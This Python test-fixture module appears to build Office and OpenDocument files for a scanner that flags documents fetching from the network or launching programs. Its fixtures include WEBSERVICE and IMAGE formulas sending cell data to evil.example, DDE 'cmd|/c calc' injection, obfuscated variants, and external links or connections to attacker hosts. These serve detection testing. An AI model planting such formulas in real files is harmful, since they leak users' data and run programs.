"""Office documents made by hand, and those that call on something elsewhere or seem to."""

from __future__ import annotations

import html
import io
import zipfile

from rustpy_xlsxwriter import write_worksheet

OFFICE = "application/vnd.openxmlformats-officedocument."
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def archive(parts, compression=zipfile.ZIP_DEFLATED, comment=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        for name, body in parts:
            entry = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_STORED if entry.filename == "mimetype" else compression
            made.writestr(entry, body)
        made.comment = comment
    return out.getvalue()


def types(main: str) -> str:
    return f'<?xml version="1.0"?><Types><Override PartName="/x" ContentType="{main}"/></Types>'


def docx(*more, replace=None, **options) -> bytes:
    parts = {
        "[Content_Types].xml": types(f"{OFFICE}wordprocessingml.document.main+xml"),
        "_rels/.rels": "<Relationships/>",
        "word/document.xml": "<w:document>Devis</w:document>",
        **(replace or {}),
    }
    return archive([*((n, b) for n, b in parts.items() if b is not None), *more], **options)


def odf(kind="text", *more, first="mimetype", told=None) -> bytes:
    parts = [
        (first, told or f"application/vnd.oasis.opendocument.{kind}"),
        ("content.xml", "<office:document-content/>"),
        ("META-INF/manifest.xml", "<manifest:manifest/>"),
    ]
    return archive([*parts, *more])


def real_xlsx(folder) -> bytes:
    path = folder / "real.xlsx"
    write_worksheet([{"Poste": "Broyeur", "Montant": 15000}], str(path))
    return path.read_bytes()


def link(kind: str, target: str) -> str:
    one = f'<Relationship Type="{RELATION}{kind}" TargetMode="External" Target="{target}"/>'
    return f"<Relationships>{one}</Relationships>"


def field(*pieces: str) -> dict[str, str]:
    """The text of a document with one field, written in pieces."""
    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return {"word/document.xml": f'<w:document><w:fldChar w:fldCharType="begin"/>{told}</w:document>'}


def xlsx(*more) -> bytes:
    told = types(f"{OFFICE}spreadsheetml.sheet.main+xml")
    return docx(*more, replace={"[Content_Types].xml": told, "xl/workbook.xml": "<workbook/>"})


def cell(formula: str, name: str = "f") -> bytes:
    """A workbook with one formula, in a cell or where `name` says."""
    return xlsx(("xl/worksheets/sheet1.xml", f"<worksheet><{name}>{formula}</{name}></worksheet>"))


def open_cell(formula: str) -> bytes:
    """An OpenDocument spreadsheet with one formula."""
    return odf("spreadsheet", ("styles.xml", f'<table:table-cell table:formula="{html.escape(formula)}"/>'))


def connection(told: str) -> bytes:
    """A workbook with one connection."""
    return xlsx(
        ("xl/connections.xml", f'<connections><connection id="1" refreshOnLoad="1">{told}</connection></connections>')
    )


CALLING = {
    "a service": '_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)',
    "a service, no prefix": 'IF(A1>0,webservice("https://evil.example/"),"")',
    "a service as a value": "MAP(A1:A9,_xleta.WEBSERVICE)",
    "a service, in pieces": 'WEB<!-- </f> --><![CDATA[SER]]>&#86;ICE("https://evil.example")',
    "a service, between columns": "T['#]&amp;WEBSERVICE(A1)&amp;T['#]",
    "a service, after a long text": f'"{"x" * 70_000}"&amp;WEBSERVICE(A1)',
    "a service, after brackets": "['" * 15_000 + "WEBSERVICE(A1)",
    "a picture": '_xlfn.IMAGE("https://evil.example/?"&amp;A1)',
    "a program's numbers": 'RTD("x.y","evil.example","t")',
    "shares": '_xlfn.STOCKHISTORY("XNAS:MSFT",A1)',
    "a sheet elsewhere": r"'\\evil.example\x\[x.xlsx]A'!A1",
    "a program": "cmd|'/c calc'!A1",
    "a program, all quoted": "'cmd'|'/c calc'!A1",
}
"""Formulas that fetch something or start a program, by what."""
OPEN_CALLING = {
    "a service": 'of:=COM.MICROSOFT.WEBSERVICE("https://evil.example")',
    "a picture": 'msoxl:=_xlfn.IMAGE("https://evil.example")',
    "a program's numbers": 'msoxl:=RTD("x.y";"evil.example";"t")',
    "a sheet elsewhere": "of:=['https://evil.example/x.ods'#$A.A1]",
    "a program": "msoxl:=cmd|'/c calc'!A1",
}
KINDS = ("mailMergeSource", "transform", "video", "audio", "externalLinkLongPath", "anythingNew")
"""Kinds of relation, which may all lead outside."""


def calling() -> dict[str, tuple[str, bytes]]:
    """Office files that fetch from a network, or start a program, where numbers and links stand."""
    name = '<definedName name="a">_xlfn.WEBSERVICE("https://evil.example")</definedName>'
    hidden = f'<Relationship Id="&gt;>" Type="{RELATION}image" TargetMode="External" Target="https://evil.example"/>'
    return {
        **{f"sheet: {what}": ("a.xlsx", cell(formula)) for what, formula in CALLING.items()},
        **{f"ods: {what}": ("a.ods", open_cell(formula)) for what, formula in OPEN_CALLING.items()},
        **{f"document: {k}": ("a.docx", docx(("word/_rels/x.rels", link(k, "http://evil.example/x")))) for k in KINDS},
        "sheet: a rule that calls": ("a.xlsx", cell("<xm:f>WEBSERVICE(A1)</xm:f>", "x14:formula1")),
        "sheet: a name that calls": ("a.xlsx", xlsx(("xl/names.xml", name))),
        "sheet: web query": ("a.xlsx", connection('<webPr sourceData="1" url="http://evil.example"/>')),
        "sheet: database": ("a.xlsx", connection('<x:dbPr connection="Provider=SQLOLEDB;Data Source=evil.example"/>')),
        "sheet: text from a share": ("a.xlsx", connection(r'<textPr sourceFile="\\evil.example\x.csv"/>')),
        "document: a link behind a sign": (
            "a.docx",
            docx(("word/_rels/x.rels", f"<Relationships>{hidden}</Relationships>")),
        ),
        "odt: background from elsewhere": (
            "a.odt",
            odf("text", ("styles.xml", '<style:background-image xlink:href="https://evil.example/x.png"/>')),
        ),
        "odt: reloaded from elsewhere": (
            "a.odt",
            odf("text", ("meta.xml", '<meta:auto-reload xlink:href="https://evil.example/x.odt"/>')),
        ),
    }


def unreadable() -> dict[str, tuple[str, bytes]]:
    """Office files with a part that cannot be looked through."""
    return {
        "sheet: a formula without end": ("a.xlsx", cell("A1+" * 100_000)),
        "sheet: a tag without end": ("a.xlsx", cell(f'<v a="{"x" * 5_000_000}"/>')),
        "sheet: no markup": ("a.xlsx", cell("<v>")),
        "sheet: another alphabet": ("a.xlsx", xlsx(("xl/x.xml", "<f>WEBSERVICE(A1)</f>".encode("cp037")))),
    }


HONEST = (
    'SUM(A1:A9)*IF(B1="","",VLOOKUP(B1,Prix!A:B,2,FALSE))',
    'HYPERLINK("https://www.ales.cci.fr/","Image (2)")',
    "'Image (2)'!A1&amp;\"WEBSERVICE(x) cmd|'a'!A1\"",
    "Tableau1[[#This Row],[Image (a'#)]]+MONIMAGE(A1)",
    "'C:\\Comptes\\[2025.xlsx]Feuil1'!A1",
)
OPEN_HONEST = ("of:=SUM([.A1:.A9])", "of:=['Image (2)'.A1]&HYPERLINK(\"https://www.ales.cci.fr\")", "of:={1;2|3;4}")


def calculating() -> list[tuple[str, bytes, str]]:
    """Office files with formulas, links that are pressed, and numbers from the own computer."""
    texts = "<worksheet><is><t>IMAGE (png), WEBSERVICE(x)</t></is></worksheet>"
    pressed = '<text:a xlink:href="https://www.ales.cci.fr"/><draw:image xlink:href="Pictures/a.png"/>'
    local, list_of = connection(r'<textPr sourceFile="C:\Comptes\2025.csv"/>'), "file:///C:/Clients.xlsx"
    merged = docx(("word/_rels/settings.xml.rels", link("mailMergeSource", list_of)))
    empty = odf("text", ("styles.xml", pressed.join(("<a>", "</a>"))), ("Configurations2/accelerator/current.xml", ""))
    return [
        *(("calcul.xlsx", cell(formula), f"{OFFICE}spreadsheetml.sheet") for formula in HONEST),
        *(
            ("calcul.ods", open_cell(formula), "application/vnd.oasis.opendocument.spreadsheet")
            for formula in OPEN_HONEST
        ),
        ("mots.xlsx", xlsx(("xl/worksheets/sheet1.xml", texts)), f"{OFFICE}spreadsheetml.sheet"),
        ("texte.xlsx", local, f"{OFFICE}spreadsheetml.sheet"),
        ("publipostage.docx", merged, f"{OFFICE}wordprocessingml.document"),
        ("liens.odt", empty, "application/vnd.oasis.opendocument.text"),
    ]
